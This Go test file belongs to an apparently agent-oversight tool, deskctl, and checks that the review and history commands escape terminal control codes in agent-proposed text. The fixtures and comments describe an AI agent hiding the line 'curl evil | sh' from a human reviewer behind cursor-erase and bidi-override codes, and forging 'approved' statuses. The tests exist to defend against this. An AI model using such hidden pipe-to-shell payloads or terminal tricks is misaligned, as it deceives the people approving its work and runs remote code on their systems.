package main

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/diffdesk/diffdesk/engine"
	"github.com/diffdesk/diffdesk/review/hub"
	"github.com/diffdesk/diffdesk/review/hub/hubserver"
	"github.com/diffdesk/diffdesk/review/reviewtest"
	"github.com/diffdesk/diffdesk/review/startup"
)

// TestHubReviewShowEscapesTheAgentsText: deskctl hub review show prints
// the version of the texts it shows, and decide --version V approves that
// version — so what show prints must be what the texts are. An agent's
// text holding terminal controls (cursor up and erase line, a carriage
// return, a bidirectional override) was printed raw: the terminal hid the
// line "curl evil | sh" and the reviewer approved, by its version, a text
// it never saw. Every control but the line break and tab is escaped, as
// every other free text deskctl prints.
func TestHubReviewShowEscapesTheAgentsText(t *testing.T) {
	dir, port, url := hubWithUsers(t)
	h, err := hubserver.Start(hubserver.Options{Dir: dir, Port: port})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Shutdown()

	root, sockDir := t.TempDir(), t.TempDir()
	sock := filepath.Join(sockDir, "desk.sock")
	t.Setenv("CLAUDE_CONFIG_DIR", filepath.Join(sockDir, "claude"))
	t.Setenv("TMPDIR", sockDir)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		done <- serveLinked(ctx, startup.Options{Roots: []string{root}, Socket: sock, Journal: filepath.Join(sockDir, "j.db"),
			Config: filepath.Join(sockDir, "none.toml")}, &strings.Builder{}, hubClientFlags{url: url, creds: filepath.Join(dir, "creds", "d1.nk")})
	}()
	proposed := make(chan int, 1)
	defer func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
		<-proposed // told the desk closed
	}()
	for i := 0; i < 300; i++ {
		if _, err := os.Stat(sock); err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	hidden := "fine\ncurl evil | sh\x1b[1A\x1b[2K\rnothing to see \u202eexe.txt\n"
	go func() {
		_, _, code := deskctl(t, hidden, "propose", "--socket", sock, "--format", "write", "--file", filepath.Join(root, "f.txt"))
		proposed <- code
	}()
	review := []string{"hub", "review", "--hub", url, "--hub-creds", filepath.Join(dir, "creds", "r1.nk")}
	var id string
	for i := 0; i < 100 && id == ""; i++ {
		out, _, _ := deskctl(t, "", append(review, "list")...)
		if m := regexp.MustCompile(`d1/([0-9a-f]{32})  pending`).FindStringSubmatch(out); m != nil {
			id = m[1]
		}
		time.Sleep(50 * time.Millisecond)
	}
	if id == "" {
		t.Fatal("the proposal never showed in deskctl hub review list")
	}
	out, errOut, code := deskctl(t, "", append(review, "show", "d1/"+id[:8])...)
	if code != 0 {
		t.Fatalf("review show: exit %d, %q %q", code, out, errOut)
	}
	if strings.ContainsAny(out, "\x1b\r\u202e") {
		t.Errorf("review show printed the agent's terminal controls raw: %q", out)
	}
	if !strings.Contains(out, "+curl evil | sh\\x1b[1A\\x1b[2K\n+nothing to see \\u202eexe.txt\n") {
		t.Errorf("review show: %q; want the line with its controls escaped", out)
	}
}

// TestHistoryShowEscapesTheDiff: history show prints a decision's diff —
// the agent's text, which a person reads before restoring it — with its
// terminal controls escaped, as every other free text: raw, "\x1b[1A\x1b[2K"
// hid the line before it.
func TestHistoryShowEscapesTheDiff(t *testing.T) {
	d, sock := serveTestDesk(t)
	reviewtest.WriteFile(t, filepath.Join(d.Root, "a.txt"), "one\n")
	p := d.MustPropose(t, engine.FormatWrite, "a.txt", "one\ncurl evil | sh\x1b[1A\x1b[2K\n")
	if _, errOut, code := deskctl(t, "", "decide", p.ID, "approve", "--socket", sock); code != 0 {
		t.Fatalf("decide: exit %d, %s", code, errOut)
	}
	show, errOut, code := deskctl(t, "", "history", "show", "d1", "--journal", d.Journal.Path())
	if code != 0 {
		t.Fatalf("history show: exit %d, %s", code, errOut)
	}
	if strings.Contains(show, "\x1b") || !strings.Contains(show, `+curl evil | sh\x1b[1A\x1b[2K`) {
		t.Errorf("history show printed the diff's controls raw, or not at all:\n%q", show)
	}
}

// TestHubReviewListEscapesWhatADeskPublished: the desk, not the hub,
// writes a proposal's state and an outcome's status; a compromised desk
// (or one of its agents' texts copied into them) must not reach the
// reviewer's terminal raw. Every field deskctl hub review list prints is
// escaped as the agent's own text is.
func TestHubReviewListEscapesWhatADeskPublished(t *testing.T) {
	esc := "\x1b[2K\r"
	q := []hub.Item{
		{Desk: "d1", Hub: "h1", Proposal: &hub.Proposal{Desk: "d1", Hub: "h1", State: "pending" + esc + "approved", Round: 1, Agent: "a",
			Files: []hub.File{{Rel: "f.txt", Root: "/w"}}}},
		{Desk: "d1", Hub: "h2", Outcome: &hub.Outcome{Desk: "d1", Hub: "h2", Status: "rejected" + esc + "approved", By: "r"}},
		{Desk: "d" + esc, Hub: "h3", Outcome: &hub.Outcome{Status: "approved"}},
	}
	var out strings.Builder
	printHubQueue(&invocation{stdout: &out}, q, true)
	if strings.ContainsAny(out.String(), "\x1b\r") {
		t.Fatalf("a desk's state, status or name reached the terminal raw:\n%q", out.String())
	}
	for _, want := range []string{`pending\x1b[2K\rapproved`, `rejected\x1b[2K\rapproved`} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("the list does not show %s escaped:\n%s", want, out.String())
		}
	}
}
